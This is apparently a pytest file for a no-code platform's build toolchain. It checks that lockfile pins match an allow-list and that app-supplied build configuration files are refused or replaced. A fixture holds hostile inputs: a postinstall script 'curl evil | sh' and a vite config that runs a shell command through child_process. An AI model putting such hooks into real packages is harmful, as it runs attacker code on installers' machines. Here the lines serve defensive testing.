"""The platform's build configuration: allow-list, lockfile and build tree agree."""

from __future__ import annotations

import json

import pytest

from zerocode.publishing import toolchain


def test_the_allow_list_is_what_the_lockfile_pins() -> None:
    manifest = toolchain.manifest()
    package = json.loads(manifest["package.json"])
    assert package["dependencies"] == toolchain.ALLOWED
    assert package["devDependencies"] == toolchain.BUILD_TOOLS
    lock = json.loads(manifest["package-lock.json"])
    packages = lock["packages"]
    for name, version in {**toolchain.ALLOWED, **toolchain.BUILD_TOOLS}.items():
        entry = packages[f"node_modules/{name}"]
        assert entry["version"] == version and entry["integrity"].startswith("sha512-")
    # Every package the lockfile installs is integrity-checked.
    assert all(p.get("integrity") or p.get("link") for k, p in packages.items() if k)


def test_the_build_tree_replaces_the_apps_build_configuration() -> None:
    files = {
        "package.json": json.dumps(
            {
                "scripts": {"postinstall": "curl evil | sh"},
                "dependencies": {"vue": "3.5.45", "pinia": "3.0.4", "left-pad": "1.3.0"},
            }
        ).encode(),
        "package-lock.json": b"{}",
        "vite.config.js": b"require('child_process').execSync('id')",
        ".zerocode/x": b"x",
        "src/App.vue": b"<template/>",
    }
    tree = toolchain.build_tree(files)
    assert set(tree) == {"package.json", "vite.config.js", "src/App.vue", toolchain.TSCONFIG}
    assert tree["vite.config.js"] == toolchain.vite_config()
    assert json.loads(tree[toolchain.TSCONFIG]) == {"compilerOptions": {}}
    package = json.loads(tree["package.json"])
    assert "scripts" not in package
    assert package["dependencies"] == {"vue": "3.5.45", "pinia": "3.0.4"}
    assert toolchain.build_tree({"src/App.vue": b""})["package.json"].count(b'"vue"') == 1


def test_the_digest_names_the_lockfile() -> None:
    assert toolchain.digest() == toolchain.digest() and len(toolchain.digest()) == 16


# Every file name a build tool of the toolchain (or a tool the app might hope for) loads or
# reads as configuration from a project: see tests/integration/publishing/test_build_inert.py.
CONFIG_NAMES = [
    *(f"vite.config.{e}" for e in ("mjs", "ts", "cjs", "mts", "cts")),
    *(f"vitest.config.{e}" for e in ("js", "ts", "mjs")),
    *(f"postcss.config.{e}" for e in ("js", "cjs", "mjs", "ts", "cts", "mts")),
    ".postcssrc",
    *(f".postcssrc.{e}" for e in ("json", "yaml", "yml", "js", "cjs", "mjs", "ts", "cts", "mts")),
    ".config/postcssrc.json",
    *(f"tailwind.config.{e}" for e in ("js", "cjs", "mjs", "ts")),
    *(f"babel.config.{e}" for e in ("js", "cjs", "mjs", "json")),
    ".babelrc",
    ".babelrc.json",
    ".babelrc.js",
    "tsconfig.json",
    "tsconfig.app.json",
    "jsconfig.json",
    ".browserslistrc",
    "browserslist",
    ".env",
    ".env.local",
    ".env.production",
    ".env.production.local",
    "pnpm-workspace.yaml",
    "lerna.json",
    "deno.json",
    "yarn.lock",
]


@pytest.mark.parametrize("name", CONFIG_NAMES)
def test_build_configuration_never_reaches_a_build_at_any_depth(name: str) -> None:
    for where in ("", "src/", "src/components/deep/", "public/"):
        path = where + name
        assert toolchain.config_refusal(path), path
        tree = toolchain.build_tree({path: b"x", "src/App.vue": b"<template/>"})
        assert path not in tree and "src/App.vue" in tree
    assert toolchain.config_refusal(name.upper())  # case does not matter


@pytest.mark.parametrize(
    "path",
    [
        "src/package.json",
        "src/package-lock.json",
        "src/node_modules/vue/index.js",
        "src/lib/node_modules/x.js",
        ".zerocode/tsconfig.json",
        ".zerocode/picker.js",
    ],
)
def test_nested_packages_and_the_platforms_directory_never_reach_a_build(path: str) -> None:
    assert toolchain.config_refusal(path)
    tree = toolchain.build_tree({path: b"hostile", "src/App.vue": b"<template/>"})
    assert tree.get(path) != b"hostile"


@pytest.mark.parametrize(
    "path",
    [
        "package.json",  # the app's own, checked by check_package_json
        "vite.config.js",  # the platform's (PLATFORM_OWNED), refused with its own message
        "package-lock.json",
        "src/App.vue",
        "src/environment.js",
        "src/config/env.js",
        ".envrc",
        "src/assets/tsconfig-logo.png",
        "public/robots.txt",
        "src/postcss.css",
        "index.html",
    ],
)
def test_ordinary_sources_are_not_build_configuration(path: str) -> None:
    assert toolchain.config_refusal(path) is None
